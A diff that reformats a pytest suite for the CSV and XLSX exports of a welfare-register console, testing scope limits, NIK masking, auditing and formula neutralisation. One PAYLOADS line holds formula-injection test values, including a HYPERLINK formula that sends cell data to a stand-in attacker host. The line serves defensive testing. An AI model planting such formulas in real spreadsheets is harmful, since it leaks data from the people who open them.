@@ -1,5 +1,6 @@
 """CSV and XLSX exports of the console's lists: the rows of the filtered list, in the user's
 scope, NIK masked as on screen, formulas neutralised, audited, streamed in constant memory."""
+
 import csv
 import datetime
 import io
@@ -13,8 +14,7 @@ import sqlalchemy as sa
 
 from tests.conftest import BANDUNG_VILLAGE, BOGOR_VILLAGE
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1", "-2+3", "@SUM(1+1)",
-            "\t=1+1"]
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1", "-2+3", "@SUM(1+1)", "\t=1+1"]
 NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 
 
@@ -41,23 +41,28 @@ def read_xlsx(response) -> tuple[list[list], list[list[dict]]]:
     with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
         sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
         styles = ElementTree.fromstring(book.read("xl/styles.xml"))
-    formats = {int(fmt.get("numFmtId")): fmt.get("formatCode")
-               for fmt in styles.iterfind("x:numFmts/x:numFmt", NS)}
+    formats = {
+        int(fmt.get("numFmtId")): fmt.get("formatCode")
+        for fmt in styles.iterfind("x:numFmts/x:numFmt", NS)
+    }
     xfs = [dict(xf.attrib) for xf in styles.iterfind("x:cellXfs/x:xf", NS)]
     cells = []
     for row in sheet.iterfind("x:sheetData/x:row", NS):
         line = []
         for c in row.iterfind("x:c", NS):
             xf = xfs[int(c.get("s", 0))]
-            line.append({
-                "type": c.get("t", "n"),
-                "formula": c.find("x:f", NS) is not None,
-                "quote_prefix": xf.get("quotePrefix") == "1",
-                "format": formats.get(int(xf.get("numFmtId", 0))),
-                "value": "".join(t.text or "" for t in c.iterfind(".//x:t", NS))
-                if c.get("t") == "inlineStr" else c.findtext("x:v", namespaces=NS),
-                "column": re.match(r"[A-Z]+", c.get("r")).group(),
-            })
+            line.append(
+                {
+                    "type": c.get("t", "n"),
+                    "formula": c.find("x:f", NS) is not None,
+                    "quote_prefix": xf.get("quotePrefix") == "1",
+                    "format": formats.get(int(xf.get("numFmtId", 0))),
+                    "value": "".join(t.text or "" for t in c.iterfind(".//x:t", NS))
+                    if c.get("t") == "inlineStr"
+                    else c.findtext("x:v", namespaces=NS),
+                    "column": re.match(r"[A-Z]+", c.get("r")).group(),
+                }
+            )
         cells.append(line)
     return [[cell["value"] for cell in line] for line in cells], cells
 
@@ -74,10 +79,18 @@ def last_export(app):
     with app.app_context():
         from app.extensions import db
 
-        entry = db.session.query(AuditEntry).filter_by(action="export") \
-            .order_by(AuditEntry.id.desc()).first()
-        return entry and {"username": entry.username, "entity": entry.entity,
-                          "region_code": entry.region_code, **entry.after}
+        entry = (
+            db.session.query(AuditEntry)
+            .filter_by(action="export")
+            .order_by(AuditEntry.id.desc())
+            .first()
+        )
+        return entry and {
+            "username": entry.username,
+            "entity": entry.entity,
+            "region_code": entry.region_code,
+            **entry.after,
+        }
 
 
 @pytest.fixture()
@@ -100,12 +113,15 @@ def register_ids(app, household_ids) -> set[str]:
 
 
 # -- the rows of the filtered list ----------------------------------------------------------------
-@pytest.mark.parametrize("query", [
-    "",
-    "_flt_0_welfare_decile=5",
-    "_flt_0_region=32.73&_oc_HouseholdView=welfare_decile&_od_HouseholdView=asc",
-    "_flt_0_welfare_decile=5&_oc_HouseholdView=register_id&_od_HouseholdView=desc",
-])
+@pytest.mark.parametrize(
+    "query",
+    [
+        "",
+        "_flt_0_welfare_decile=5",
+        "_flt_0_region=32.73&_oc_HouseholdView=welfare_decile&_od_HouseholdView=asc",
+        "_flt_0_welfare_decile=5&_oc_HouseholdView=register_id&_od_HouseholdView=desc",
+    ],
+)
 def test_export_holds_exactly_the_rows_of_the_filtered_list(app, client, login, register, query):
     login("admin")
     listed = list_register_ids(client, query)
@@ -118,28 +134,44 @@ def test_export_holds_exactly_the_rows_of_the_filtered_list(app, client, login, 
 
 def test_export_ignores_paging_and_takes_every_row(client, login, register):
     login("admin")
-    rows = read_csv(fetch(client, "/households/export/csv?page_HouseholdView=1&psize_HouseholdView=2"))
+    rows = read_csv(
+        fetch(client, "/households/export/csv?page_HouseholdView=1&psize_HouseholdView=2")
+    )
     assert len(rows) - 1 == 7
 
 
 def test_list_page_offers_export_buttons_with_its_search(client, login, register):
     login("operator.bandung")
-    html = client.get("/households/list/?_flt_0_welfare_decile=5&page_HouseholdView=0") \
-        .get_data(as_text=True)
+    html = client.get("/households/list/?_flt_0_welfare_decile=5&page_HouseholdView=0").get_data(
+        as_text=True
+    )
     assert "Ekspor CSV" in html and "Ekspor XLSX" in html
     links = re.findall(r'href="(/households/export/(?:csv|xlsx)[^"]*)"', html)
     assert len(links) == 2
     for link in links:
         assert "_flt_0_welfare_decile=5" in link and "page_" not in link
     # Every register list has them.
-    for url in ("/members/list/", "/families/list/", "/memberships/list/", "/proposals/list/",
-                "/regions/list/", "/programs/list/"):
+    for url in (
+        "/members/list/",
+        "/families/list/",
+        "/memberships/list/",
+        "/proposals/list/",
+        "/regions/list/",
+        "/programs/list/",
+    ):
         assert "Ekspor CSV" in client.get(url).get_data(as_text=True), url
 
 
 # -- scope and privacy --------------------------------------------------------------------------
-@pytest.mark.parametrize("url", ["/households/export/csv", "/members/export/csv",
-                                 "/families/export/csv", "/memberships/export/csv"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/households/export/csv",
+        "/members/export/csv",
+        "/families/export/csv",
+        "/memberships/export/csv",
+    ],
+)
 def test_regency_operator_exports_only_own_regency(app, client, login, register, url):
     login("operator.bandung")
     response = fetch(client, url)
@@ -148,8 +180,7 @@ def test_regency_operator_exports_only_own_regency(app, client, login, register,
     for register_id in register_ids(app, register["bogor"]):
         assert register_id not in text
     if url.startswith("/households"):
-        assert {row[0] for row in read_csv(response)[1:]} == \
-            register_ids(app, register["bandung"])
+        assert {row[0] for row in read_csv(response)[1:]} == register_ids(app, register["bandung"])
 
 
 def test_proposals_and_reference_lists_export_too(app, client, login, register):
@@ -160,10 +191,13 @@ def test_proposals_and_reference_lists_export_too(app, client, login, register):
 
     with app.app_context():
         sm = app.appbuilder.sm
-        for username, household_id in (("operator.bandung", register["bandung"][0]),
-                                       ("operator.bogor", register["bogor"][0])):
-            proposals.propose_deactivation(sm.find_user(username=username),
-                                           DeactivationReason.MOVED, household_id=household_id)
+        for username, household_id in (
+            ("operator.bandung", register["bandung"][0]),
+            ("operator.bogor", register["bogor"][0]),
+        ):
+            proposals.propose_deactivation(
+                sm.find_user(username=username), DeactivationReason.MOVED, household_id=household_id
+            )
         bandung = db.session.get(Household, register["bandung"][0]).register_id
         bogor = db.session.get(Household, register["bogor"][0]).register_id
     login("operator.bandung")
@@ -181,8 +215,13 @@ def test_proposals_and_reference_lists_export_too(app, client, login, register):
 
 def test_crafted_filters_cannot_leave_the_scope(app, client, login, register):
     login("operator.bandung")
-    for query in ("_flt_0_region=32.01", "_flt_0_region=32", "_flt_0_region=",
-                  "_flt_0_inregion=32.01", "_flt_0_village_code=32.01.01.1001"):
+    for query in (
+        "_flt_0_region=32.01",
+        "_flt_0_region=32",
+        "_flt_0_region=",
+        "_flt_0_inregion=32.01",
+        "_flt_0_village_code=32.01.01.1001",
+    ):
         response = fetch(client, f"/households/export/csv?{query}")
         # Filters the list does not offer are refused as on the list page.
         assert response.status_code == client.get(f"/households/list/?{query}").status_code
@@ -202,7 +241,9 @@ def _niks(app, household_ids) -> set[str]:
     from models import Member
 
     with app.app_context():
-        return {m.nik for m in db.session.query(Member).filter(Member.household_id.in_(household_ids))}
+        return {
+            m.nik for m in db.session.query(Member).filter(Member.household_id.in_(household_ids))
+        }
 
 
 def test_province_sees_nik_masked_as_on_screen(app, client, login, register):
@@ -286,22 +327,30 @@ def test_file_name_and_headers(client, login, register):
     assert response.get_data()[:2] == b"PK"
 
 
-# -- audit, permissions, bad input ------------------------------------------------------------------
+# -- audit, permissions, bad input -----------------------------------------------------------------
 def test_every_export_is_audited(app, client, login, register):
     login("operator.bandung")
     fetch(client, "/households/export/xlsx?_flt_0_welfare_decile=5").get_data()
     entry = last_export(app)
     assert entry == {
-        "username": "operator.bandung", "entity": "household", "region_code": "32.73",
-        "list": "HouseholdView", "format": "xlsx",
-        "filters": {"_flt_0_welfare_decile": ["5"]}, "rows": 3,
+        "username": "operator.bandung",
+        "entity": "household",
+        "region_code": "32.73",
+        "list": "HouseholdView",
+        "format": "xlsx",
+        "filters": {"_flt_0_welfare_decile": ["5"]},
+        "rows": 3,
     }
     client.get("/logout/")
     login("pengawas")
     fetch(client, "/members/export/csv").get_data()
     entry = last_export(app)
-    assert (entry["username"], entry["entity"], entry["region_code"], entry["rows"]) == \
-        ("pengawas", "member", None, 14)
+    assert (entry["username"], entry["entity"], entry["region_code"], entry["rows"]) == (
+        "pengawas",
+        "member",
+        None,
+        14,
+    )
     rows = read_csv(fetch(client, "/audit/export/csv?_flt_0_username=operator.bandung"))
     assert rows[0][:2] == ["Waktu", "Pengguna"]
     assert [row[1] for row in rows[1:]].count("operator.bandung") >= 2  # sign-in, export
@@ -320,12 +369,15 @@ def test_roles_without_export_permission_are_refused(client, login, register):
     assert fetch(client, "/households/export/csv").status_code == 200
 
 
-@pytest.mark.parametrize("query", [
-    "_oc_HouseholdView=nonexistent&_od_HouseholdView=asc",
-    "_flt_9_region=32",
-    "page_HouseholdView=abc",
-    "psize_HouseholdView=-5",
-])
+@pytest.mark.parametrize(
+    "query",
+    [
+        "_oc_HouseholdView=nonexistent&_od_HouseholdView=asc",
+        "_flt_9_region=32",
+        "page_HouseholdView=abc",
+        "psize_HouseholdView=-5",
+    ],
+)
 def test_malformed_arguments_are_refused_like_the_list(client, login, register, query):
     login("admin")
     assert client.get(f"/households/list/?{query}").status_code == 400
@@ -333,12 +385,15 @@ def test_malformed_arguments_are_refused_like_the_list(client, login, register, 
     assert fetch(client, f"/households/export/xlsx?{query}").status_code == 400
 
 
-@pytest.mark.parametrize("url", [
-    "/households/export/pdf",
-    "/households/export/csv?_flt_0_status=BOGUS",
-    "/households/export/csv?_flt_0_welfare_decile=abc",
-    "/audit/export/csv?_flt_0_date=not-a-date",
-])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/households/export/pdf",
+        "/households/export/csv?_flt_0_status=BOGUS",
+        "/households/export/csv?_flt_0_welfare_decile=abc",
+        "/audit/export/csv?_flt_0_date=not-a-date",
+    ],
+)
 def test_other_bad_input_is_never_a_server_error(client, login, url):
     login("admin")
     assert fetch(client, url).status_code < 500
@@ -349,8 +404,9 @@ def test_row_limit_gives_a_clear_message(app, client, login, register, monkeypat
     fetch(client, "/households/export/csv?_flt_0_welfare_decile=2")
     before = last_export(app)
     monkeypatch.setitem(app.config, "EXPORT_MAX_ROWS", 2)
-    response = fetch(client, "/households/export/csv?_flt_0_welfare_decile=5",
-                     follow_redirects=True)
+    response = fetch(
+        client, "/households/export/csv?_flt_0_welfare_decile=5", follow_redirects=True
+    )
     assert len(read_csv(fetch(client, "/households/export/csv?_flt_0_welfare_decile=2"))) == 3
     html = response.get_data(as_text=True)
     assert response.status_code == 200  # back on the list, with its search
@@ -403,8 +459,10 @@ def test_export_streams_in_constant_memory(app, client, login):
     for fmt in ("csv", "xlsx"):
         measured[fmt].append(_measure(client, fmt))
         (small_size, small_peak), (large_size, large_peak) = measured[fmt]
-        print(f"{fmt}: {small} rows {small_size} B peak {small_peak} B; "
-              f"{large} rows {large_size} B peak {large_peak} B")
+        print(
+            f"{fmt}: {small} rows {small_size} B peak {small_peak} B; "
+            f"{large} rows {large_size} B peak {large_peak} B"
+        )
         assert large_size > 4 * small_size
         assert large_peak < 1.5 * small_peak, measured
 
@@ -418,8 +476,13 @@ def test_rows_are_read_in_batches_through_a_server_side_cursor(app, client, logi
 
     def _statement(_conn, cursor, statement, _parameters, context, _many):
         if "FROM member" in statement and statement.lstrip().upper().startswith("SELECT"):
-            seen.append((context.execution_options.get("yield_per"),
-                         getattr(cursor, "name", None), statement))
+            seen.append(
+                (
+                    context.execution_options.get("yield_per"),
+                    getattr(cursor, "name", None),
+                    statement,
+                )
+            )
 
     with app.app_context():
         engine = db.engine
